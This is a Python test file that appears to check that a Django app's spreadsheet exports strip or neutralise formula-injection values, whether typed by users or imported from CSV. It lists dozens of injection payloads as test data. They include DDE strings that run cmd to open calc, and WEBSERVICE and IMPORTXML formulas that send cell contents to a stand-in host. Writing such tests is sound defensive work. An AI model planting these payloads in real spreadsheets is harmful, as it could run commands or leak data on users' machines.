"""Nothing that a spreadsheet program would run leaves in a list: what people type, and what comes in by an import."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from heli.core import export
from heli.core.tables import read_file
from heli.loop import importing
from heli.loop.batches import HEADINGS

DDE = "cmd|' /C calc'!A0"
LIVE = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", f"={DDE}", DDE.replace("cmd", "|cmd"), "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)", "=IMPORTXML(\"http://evil.example\",\"//a\")", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1",
    "   +1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹢1+1", "﹣1+1",
    "⁺1", "⁻1", "−1+1", "'=1+1", '"=1+1"', "\"\t=1+1", "=1+1\";=2+2", "%0A=1+1", "|calc", "=\u0000 1+1", "\u0000=1+1", "{=1+1}", "=@SUM(1)",
    "-2+3+cmd|' /C calc'!A0", "++=1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "；=1+1", "=SUM(1+1)*cmd|' /C calc'!A0",
)  # fmt: skip
STARTS = set("=+-@|%\t\r\n＝＋－＠﹢﹣⁺⁻−")


def cells(raw: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(raw))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def live(raw: bytes) -> list[str]:
    """What would be run, or be read as a formula by a program that guesses."""
    found = []
    for cell in cells(raw):
        if cell.data_type == "f" or cell.hyperlink is not None:
            found.append(f"{cell.coordinate}: {cell.value!r}")
        elif isinstance(cell.value, str):
            seen = cell.value.lstrip(" \u00a0\u3000\u200b\ufeff\u202e")
            if seen and seen[0] in STARTS:
                found.append(f"{cell.coordinate}: {cell.value!r}")
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        for name in book.namelist():
            if name.endswith(".xml") and name.startswith("xl/worksheets") and b"<f>" in book.read(name):
                found.append(name)
            if "externalLink" in name or "vbaProject" in name:
                found.append(name)
    return found


def test_there_are_enough_of_them() -> None:
    assert len(set(LIVE)) >= 30


@pytest.mark.parametrize("text", LIVE)
def test_no_cell_is_live(text: str) -> None:
    raw = export.workbook("表", [(text, lambda r: r), ("数", lambda _r: -5)], [text, "甲" + text], cap=10, notes=[text])
    assert live(raw) == []
    assert text.replace("\0", "").replace("\r", "")[-3:] in "".join(str(c.value) for c in cells(raw)).replace(
        "_x000D_", ""
    ), "it is still there to be read"


def test_the_look_out_sees_a_formula() -> None:
    from openpyxl import Workbook

    book, out = Workbook(), io.BytesIO()
    book.active["A1"], book.active["A2"] = "=1+1", "＝1"
    book.save(out)
    assert len(live(out.getvalue())) >= 2


@pytest.mark.django_db
def test_what_was_imported_and_told_leaves_safely(world: Any, settings: Any, tmp_path: Any) -> None:
    """Every payload as title, text and place of an imported row; then each list of ours taken away."""
    import csv

    from django.test import Client
    from django.utils import timezone

    settings.HELI_STAFF_MFA = False
    file = tmp_path / "rows.csv"
    with file.open("w", newline="", encoding="utf-8") as out:
        rows = csv.writer(out)
        rows.writerow(["key", "title", "text", "spot"])
        for n, text in enumerate(t.replace("\0", "") for t in LIVE):
            rows.writerow([f"k{n}", f"{text}标题", f"{text} 人行道塌下去一片", text])
    now = timezone.now()
    done = importing.import_rows(
        read_file(file, HEADINGS), columns={"key": "key", "title": "title", "text": "text", "spot": "spot"},
        defaults={"area": "370602"}, source="表", by=world.actor("孙坐席"), at=now,
    )  # fmt: skip
    assert done.taken == len(LIVE), done.errors
    client = Client()
    client.force_login(world.user("孙坐席"), "allauth.account.auth_backends.AuthenticationBackend")
    taken = client.post("/loop/requests/export/", {"purpose": "=1+1", "x-purpose": "=1+1"})
    raw = b"".join(taken.streaming_content) if taken.streaming else taken.content
    assert taken.status_code == 200 and len(cells(raw)) > len(LIVE)
    assert live(raw) == []
    resident = Client()
    resident.force_login(world.wang_resident, "allauth.account.auth_backends.AuthenticationBackend")
    resident.post("/me/edit/", {"call_name": "=1+1", "name": "＝2+2"})
    assert live(resident.post("/me/export/").content) == []
    assert live(client.get("/rules/all.xlsx").content) == []
